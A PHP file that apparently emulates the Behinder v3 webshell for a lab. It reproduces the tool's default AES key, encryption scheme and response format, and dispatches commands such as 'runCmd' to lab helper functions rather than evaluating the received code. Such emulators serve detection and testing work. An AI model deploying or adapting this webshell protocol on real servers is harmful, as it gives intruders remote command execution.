<?php require getenv('LAB_SHELL_LIB');
// Emulates a Behinder v3 PHP shell: the body is base64 text of AES-128 (openssl "AES128", zero IV)
// of "assert|eval(base64_decode('...'))"; the code inside is only searched for the tool's function
// name and its base64 arguments, never evaluated. The answer is the same cipher, base64, of
// {"status":base64,"msg":base64}.
@error_reporting(0);
session_start();
$key = 'e45e329feb5d925b';
$_SESSION['k'] = $key;
session_write_close();
$post = @openssl_decrypt(file_get_contents('php://input'), 'AES128', $key);
if ($post === false) exit;
$parts = explode('|', $post, 2);
$code = preg_match("/base64_decode\\('([A-Za-z0-9+\/=]*)'\\)/", $parts[1] ?? '', $m) ? base64_decode($m[1]) : '';
$func = preg_match('#/\* (\w+) \*/#', $code, $fm) ? $fm[1] : '';
$args = [];
if (preg_match_all('/\$(\w+)="([A-Za-z0-9+\/=]*)";/', $code, $am, PREG_SET_ORDER)) foreach ($am as $a) $args[$a[1]] = base64_decode($a[2]);
switch ($func) {
    case 'echo': $r = $args['content'] ?? ''; break;
    case 'getBasicsInfo': $r = json_encode(['basicInfo' => php_uname(), 'currentPath' => lab_sandbox(), 'driveList' => '/', 'osInfo' => PHP_OS, 'arch' => 'x64']); break;
    case 'listFile': $r = lab_listing(); break;
    case 'runCmd': $r = lab_run($args['cmd'] ?? ''); break;
    default: $r = '';
}
echo @openssl_encrypt(json_encode(['status' => base64_encode('success'), 'msg' => base64_encode($r)]), 'AES128', $key);
